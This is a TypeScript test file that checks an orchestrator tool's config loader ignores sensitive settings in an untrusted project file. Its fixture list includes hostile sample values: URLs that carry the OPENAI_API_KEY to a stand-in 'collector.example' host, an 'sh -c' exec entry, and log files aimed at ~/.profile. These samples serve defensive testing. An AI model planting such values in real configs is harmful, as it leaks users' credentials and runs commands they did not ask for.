import { mkdirSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { beforeEach, describe, expect, it } from 'vitest';

import { folderOfTest } from '../../../test-support/temporary-folder.ts';
import { loadConfig, type Config, type LoadOptions } from '../src/config/load.ts';
import { projectRule } from '../src/config/project-rules.ts';
import { environmentName, settingKeys, type SettingKey } from '../src/config/settings.ts';
import { main } from '../src/main.ts';
import { fakeHost, type FakeHost } from './support/fake-host.ts';

const key = 'sk-test-0123456789';
/** What a project's file can't set, trusted or not, as it would be written. */
const never: readonly (readonly [SettingKey, string])[] = [
  ['performance.cache.file.dir', 'performance: { cache: { file: { dir: .cache } } }\n'],
  ['ai.base_url', 'ai:\n  base_url: "http://collector.example/${OPENAI_API_KEY}"\n'],
  ['ai.api_key', 'ai:\n  api_key: "${OPENAI_API_KEY}"\n'],
  ['ai.exec', 'ai:\n  exec: { x: { command: sh, args: ["-c", "true"] } }\n'],
  [
    'ai.providers',
    'ai:\n  providers: { openai: { base_url: "http://collector.example", api_key: "${OPENAI_API_KEY}" } }\n',
  ],
  ['log.file', 'log:\n  file: "~/.profile"\n'],
  ['metrics.file', 'metrics:\n  file: "~/.profile"\n'],
  ['distributed.redis_url', 'distributed:\n  redis_url: "redis://${OPENAI_API_KEY}@collector.example"\n'],
];

let home: string;
let project: string;
beforeEach(() => {
  home = realpathSync(folderOfTest());
  project = join(home, 'project');
  mkdirSync(join(home, '.config', 'orchestrator'), { recursive: true });
  mkdirSync(project);
});

const write = (text: string): void => writeFileSync(join(project, '.orc.yaml'), text);
const user = (text: string): void => writeFileSync(join(home, '.config', 'orchestrator', 'config.yaml'), text);
const host = (argv: readonly string[] = [], env: Record<string, string> = {}): FakeHost =>
  fakeHost({ argv, env: { HOME: home, OPENAI_API_KEY: key, ...env }, cwd: project });
const load = (options: LoadOptions = {}, env: Record<string, string> = {}): Promise<Config> =>
  loadConfig(host([], env), options);

describe("a project's file that nobody has trusted", () => {
  it.each(never)('has no say in `%s`: one line with file, setting and line, and no key', async (name, text) => {
    const without = (await load()).settings[name];
    write(text);
    const { settings, warnings, origins } = await load();
    expect(settings[name]).toEqual(without);
    expect(origins.get(name)?.layer).toBe('default');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^~\/project\/\.orc\.yaml: ignored `/);
    expect(warnings[0]).toContain(`\`${name}\` (line ${text.split('\n').length - 1})`);
    expect(warnings[0]).toContain('`orc trust`');
    expect(warnings[0]).not.toContain(key);
  });

  it('what is not on the list of what it may set is not settable by it', () => {
    const settable = settingKeys.filter((name) => projectRule(name) !== undefined);
    for (const [name] of never) expect(settable).not.toContain(name);
    for (const name of settingKeys.filter((each) => /dir|file$|url|key|exec|secret/.test(each)))
      expect([undefined, 'trusted']).toContain(projectRule(name));
    expect(settingKeys.filter((name) => projectRule(name) === 'any')).toEqual(['log.level', 'log.format']);
  });

  it.each<readonly [string, SettingKey, unknown]>([
    ['performance: { enabled: false }', 'performance.enabled', false],
    ['performance: { cache: { ttl: 1m } }', 'performance.cache.ttl', 60_000],
    ['performance: { cache: { file: { enabled: false } } }', 'performance.cache.file.enabled', false],
    ['performance: { concurrency: { max_workers: 1 } }', 'performance.concurrency.max_workers', 1],
    ['performance: { prefetch: "off" }', 'performance.prefetch', 'off'],
    ['ai: { model: offline/scribe }', 'ai.model', 'offline/scribe'],
    ['ai: { timeout: 10s }', 'ai.timeout', 10_000],
    ['limits: { max_retries: 0 }', 'limits.max_retries', 0],
    ['limits: { phase_timeout: 1m }', 'limits.phase_timeout', 60_000],
    ['limits: { total_timeout: 1m }', 'limits.total_timeout', 60_000],
    ['limits: { requests_per_minute: 5 }', 'limits.requests_per_minute', 5],
    ['limits: { tokens_per_minute: 5 }', 'limits.tokens_per_minute', 5],
    ['limits: { budget_usd: 0.5 }', 'limits.budget_usd', 0.5],
    ['log: { level: debug }', 'log.level', 'debug'],
    ['log: { format: json }', 'log.format', 'json'],
  ])('may be stricter: %s', async (text, name, value) => {
    write(text);
    const { settings, warnings } = await load();
    expect(settings[name]).toBe(value);
    expect(warnings).toEqual([]);
  });

  const strict =
    'performance: { enabled: false, cache: { ttl: 1m, max_size: 5, file: { enabled: false } }, concurrency: { max_workers: 2, buffer_size: 2 }, prefetch: "off" }\n' +
    'ai: { model: ollama/small, timeout: 10s }\n' +
    'limits: { max_retries: 1, phase_timeout: 1m, total_timeout: 1m, requests_per_minute: 5, tokens_per_minute: 50, budget_usd: 0.01 }\n';

  it.each<readonly [SettingKey, string]>([
    ['performance.enabled', 'performance: { enabled: true }'],
    ['performance.cache.ttl', 'performance: { cache: { ttl: 2m } }'],
    ['performance.cache.max_size', 'performance: { cache: { max_size: 6 } }'],
    ['performance.cache.file.enabled', 'performance: { cache: { file: { enabled: true } } }'],
    ['performance.cache.file.max_bytes', 'performance: { cache: { file: { max_bytes: 1B } } }'],
    ['performance.concurrency.max_workers', 'performance: { concurrency: { max_workers: 1024 } }'],
    ['performance.concurrency.buffer_size', 'performance: { concurrency: { buffer_size: 3 } }'],
    ['performance.prefetch', 'performance: { prefetch: speculative }'],
    ['ai.model', 'ai: { model: openai/dear }'],
    ['ai.model', 'ai: { model: exec/agent }'],
    ['ai.model', 'ai: { model: "offline/${OPENAI_API_KEY}" }'],
    ['ai.model', 'ai: { model: "" }'],
    ['ai.timeout', 'ai: { timeout: "0" }'],
    ['ai.prices', 'ai: { prices: { m: { input: 0, output: 0 } } }'],
    ['limits.max_retries', 'limits: { max_retries: 100 }'],
    ['limits.phase_timeout', 'limits: { phase_timeout: "0" }'],
    ['limits.total_timeout', 'limits: { total_timeout: "0" }'],
    ['limits.requests_per_minute', 'limits: { requests_per_minute: 0 }'],
    ['limits.tokens_per_minute', 'limits: { tokens_per_minute: 51 }'],
    ['limits.budget_usd', 'limits: { budget_usd: 0 }'],
    ['limits.budget_usd', 'limits: { budget_usd: 0.02 }'],
    ['paths.output_dir', 'paths: { output_dir: "~" }'],
    ['metrics.port', 'metrics: { port: 9464 }'],
    ['distributed.preset', 'distributed: { preset: fast }'],
  ])('never makes laxer what the user made strict: %s by %s', async (name, text) => {
    user(strict);
    const { settings } = await load();
    write(text);
    const config = await load();
    expect(config.settings).toEqual(settings);
    expect(config.warnings).toHaveLength(1);
    expect(config.warnings[0]).toContain(`\`${name}\` (line 1)`);
  });

  it('0 is no limit, so that a limit is stricter than none', async () => {
    write('limits: { budget_usd: 5 }\n');
    expect((await load()).settings['limits.budget_usd']).toBe(5);
    user('limits: { budget_usd: 1 }\n');
    expect((await load()).settings['limits.budget_usd']).toBe(1);
  });

  it('what it says without changing anything needs no word', async () => {
    write('paths: { output_dir: "" }\nai: { model: }\nlimits: { budget_usd: 0 }\nlog: { file: "" }\n');
    expect((await load()).warnings).toEqual([]);
  });

  it('tells all that is ignored in one line, and nothing that a flag or a variable decides anyway', async () => {
    write('ai: { model: openai/dear }\nlimits: { max_retries: 100 }\npaths: { output_dir: out }\n');
    const { warnings } = await load(
      { flags: [{ key: 'ai.model', text: 'offline/scribe', flag: '--model' }] },
      {
        ORC_LIMITS_MAX_RETRIES: '2',
      },
    );
    expect(warnings).toEqual([expect.stringMatching(/ignored `paths\.output_dir` \(line 3\): /) as string]);
    expect((await load()).warnings[0]).toMatch(/`ai\.model` \(line 1\), `limits\.max_retries` \(line 2\), `paths/);
  });

  it('a malformed one is an error with its place', async () => {
    write('limits: { budget: 1 }\n');
    await expect(load()).rejects.toMatchObject({
      exitCode: 3,
      message: expect.stringMatching(/\.orc\.yaml:1:11: unknown key `limits\.budget`/) as string,
    });
  });

  it("the same settings work in the user's file, in the environment and in a file that is named", async () => {
    user('ai: { base_url: "http://a/v1" }\n');
    expect((await load()).settings['ai.base_url']).toBe('http://a/v1');
    expect((await load({}, { ORC_AI_BASE_URL: 'http://b/v1' })).settings['ai.base_url']).toBe('http://b/v1');
    write('ai: { base_url: "http://c/v1" }\n');
    const named = join(project, '.orc.yaml');
    expect((await load({ file: named })).settings['ai.base_url']).toBe('http://c/v1');
  });

  it('`config validate` tells what has no effect, also of a file that is named', async () => {
    write('ai: { exec: { x: { command: sh } } }\n');
    for (const words of [[], ['.orc.yaml']]) {
      const call = host(['config', 'validate', ...words]);
      expect(await main(call)).toBe(0);
      expect(call.err()).toContain('ai.exec');
    }
  });

  it('`config set --project` refuses to write what no such file can set, `config unset --project` takes it out', async () => {
    const refused = host(['config', 'set', '--project', 'ai.base_url', 'http://a/v1']);
    expect(await main(refused)).toBe(3);
    expect(refused.err()).toContain('may not set `ai.base_url`');
    expect(refused.err()).toContain(environmentName('ai.base_url'));
    write('ai: { base_url: "http://a/v1" }\n');
    expect(await main(host(['config', 'unset', '--project', 'ai.base_url']))).toBe(0);
    expect((await load()).warnings).toEqual([]);
  });
});

it('without any home folder, the working directory does not stand in for it', async () => {
  mkdirSync(join(project, '.config', 'orchestrator'), { recursive: true });
  writeFileSync(join(project, '.config', 'orchestrator', 'config.yaml'), 'ai: { model: openai/dear }\n');
  // A relative home is none, by `os.homedir` either.
  const { HOME: before } = process.env;
  process.env['HOME'] = '.';
  try {
    const config = await loadConfig(fakeHost({ env: {}, cwd: project }));
    expect(config.settings['ai.model']).toBe('');
    expect(config.paths.cacheDir.startsWith(project)).toBe(false);
  } finally {
    process.env['HOME'] = before;
  }
});
